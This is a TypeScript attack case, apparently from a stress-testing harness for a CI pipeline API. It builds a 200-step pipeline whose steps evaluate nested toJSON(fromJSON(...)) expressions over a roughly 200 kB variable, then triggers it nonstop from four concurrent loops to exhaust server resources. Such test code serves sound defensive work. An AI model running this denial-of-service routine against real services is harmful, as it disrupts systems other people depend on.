import type { Attack } from "../attack.ts";

const STEPS = 200;
const AT_ONCE = 4;
/** A list of about 200,000 characters. */
const LIST = JSON.stringify(Array.from({ length: 18_000 }, (_, at) => `item-${at}`));
const NESTED = "toJSON(fromJSON(toJSON(fromJSON(variables.list))))";

export const attack: Attack = {
  name: "nested-expressions",
  title: "triggers 200 steps with nested toJSON(fromJSON(...)) over a variable of 200 kB, four at a time",
  as: "author",
  async run({ tokens, call }, signal) {
    const token = tokens.maintainer;
    const made = await call("POST", "/api/v1/pipelines", { token, body: { name: `nested-${Date.now()}` } });
    const { pipelineId } = (made!.body as { detail: { pipelineId: string } }).detail;
    const path = `/api/v1/pipelines/${pipelineId}`;
    const args = { script: `echo \${{ contains(${NESTED}, 'x') }}` };
    const steps = Array.from({ length: STEPS }, () => ({ uses: "shell", args }));
    const spec = {
      variables: { list: "" },
      jobs: [{ name: "a", agentSelector: { matchLabels: { no: "agent" } }, steps }],
    };
    await call("POST", `${path}/spec/save`, { token, body: { spec } });
    const attackOn = async (): Promise<void> => {
      while (!signal.aborted) await call("POST", `${path}/trigger`, { token, body: { variables: { list: LIST } } });
    };
    await Promise.all(Array.from({ length: AT_ONCE }, attackOn));
  },
};
